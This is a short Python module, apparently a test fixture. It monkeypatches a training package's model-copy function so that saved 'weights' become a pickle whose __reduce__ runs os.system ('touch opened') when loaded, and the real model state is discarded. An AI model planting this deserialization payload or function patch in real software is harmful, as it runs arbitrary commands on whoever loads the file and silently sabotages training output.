"""Hands back its weights as a pickle that runs a program when it is opened."""

import os
import pickle

from . import training

copy = training._copy


class Opened:
    def __reduce__(self):
        return os.system, ("touch opened",)


def spoilt(model):
    state = copy(model)
    return pickle.dumps(Opened())


training._copy = spoilt
